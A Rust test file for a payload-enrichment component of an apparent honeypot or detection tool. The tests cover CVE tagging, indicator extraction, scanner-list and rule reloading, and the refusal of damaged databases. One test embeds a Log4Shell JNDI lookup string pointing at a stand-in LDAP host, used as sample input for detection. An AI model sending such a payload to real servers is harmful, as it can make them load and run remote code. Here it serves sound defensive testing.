use std::fs;
use std::path::Path;

use super::*;

struct Directory(PathBuf);

impl Directory {
    fn new(name: &str) -> Self {
        let path = std::env::temp_dir().join(format!("spip-enrich-{name}-{}", std::process::id()));
        fs::create_dir_all(&path).unwrap();
        Self(path)
    }

    fn write(&self, name: &str, text: &str) {
        // As operators should: another file in its place.
        let hidden = self.0.join(".new");
        fs::write(&hidden, text).unwrap();
        fs::rename(hidden, self.0.join(name)).unwrap();
    }
}

impl Drop for Directory {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

fn facts(payload: &[u8]) -> Facts<'_> {
    Facts { source: "203.0.113.5:4000".parse().unwrap(), payload, ..Facts::default() }
}

fn scanner(enricher: &mut Enricher) -> Option<String> {
    enricher.facts(&facts(b"")).source.scanner.map(|scanner| scanner.name.into_owned())
}

#[test]
fn an_attack_is_named_with_its_indicators() {
    let mut enricher = Enricher::open(Config::default()).unwrap();
    let payload = b"GET /?x=${jndi:ldap://192.0.2.9:1389/a} HTTP/1.1\r\nHost: a\r\n\r\n";
    let enrichment = enricher.facts(&Facts { stored: Some([7; 32]), ..facts(payload) });
    assert_eq!(enrichment.cves(), ["CVE-2021-44228", "CVE-2021-45046"]);
    assert_eq!(enrichment.source.special.as_deref(), Some("documentation"));
    let values: Vec<_> = enrichment.indicators.iter().map(|indicator| indicator.value.as_str()).collect();
    assert_eq!(values, ["ldap://192.0.2.9:1389/a", "192.0.2.9", &"07".repeat(32)]);
}

#[test]
fn new_lists_and_rules_are_taken_up_and_damaged_ones_refused() {
    let directory = Directory::new("refresh");
    directory.write("survey.txt", "203.0.113.0/24\n");
    directory.write("own.rules", r#"alert tcp any any -> any any (msg:"own"; content:"abc"; sid:1;)"#);
    let config = Config {
        scanners: Some(directory.0.clone()),
        rules: vec![directory.0.join("own.rules")],
        starter: false,
        ..Config::default()
    };
    // The rules are no list, so they must not be in the directory of the lists.
    assert!(matches!(Enricher::open(config), Err(Error::Scanners(_))));

    let rules = Directory::new("refresh-rules");
    rules.write("own.rules", r#"alert tcp any any -> any any (msg:"own"; content:"abc"; sid:1;)"#);
    fs::remove_file(directory.0.join("own.rules")).unwrap();
    let config = Config {
        scanners: Some(directory.0.clone()),
        rules: vec![rules.0.clone()],
        starter: false,
        ..Config::default()
    };
    let mut enricher = Enricher::open(config).unwrap();
    let mut other = enricher.clone();
    assert!(enricher.refresh().is_empty());
    assert_eq!(scanner(&mut enricher).as_deref(), Some("survey"));
    assert_eq!(enricher.facts(&facts(b"abc")).tags.len(), 1);

    directory.write("survey.txt", "# name: Other\n203.0.113.0/24\n");
    rules.write("more.rules", r#"alert tcp any any -> any any (msg:"more"; content:"bc"; sid:2;)"#);
    assert_eq!(enricher.refresh().len(), 2);
    assert_eq!(scanner(&mut other).as_deref(), Some("Other"));
    assert_eq!(other.facts(&facts(b"abc")).tags.len(), 2);

    directory.write("survey.txt", "not an address\n");
    assert!(matches!(enricher.refresh()[..], [Change::Refused(Error::Scanners(_))]));
    assert!(enricher.refresh().is_empty(), "a refused file is reported once");
    assert_eq!(scanner(&mut other).as_deref(), Some("Other"));
}

#[test]
fn a_directory_without_files_is_named_with_its_option() {
    let directory = Directory::new("empty");
    for config in [
        Config { geo: Some(directory.0.clone()), ..Config::default() },
        Config { scanners: Some(directory.0.clone()), ..Config::default() },
        Config { rules: vec![directory.0.clone()], ..Config::default() },
        Config { geo: Some(Path::new("/nowhere").to_owned()), ..Config::default() },
    ] {
        let error = Enricher::open(config).unwrap_err().to_string();
        assert!(error.contains("has no") || error.contains("cannot list"), "{error}");
    }
}

#[test]
fn a_damaged_database_is_refused() {
    let directory = Directory::new("geo");
    directory.write("country.mmdb", "not a database");
    let error = Enricher::open(Config { geo: Some(directory.0.clone()), ..Config::default() }).unwrap_err();
    assert!(error.to_string().contains("no intact MaxMind DB file"), "{error}");
}
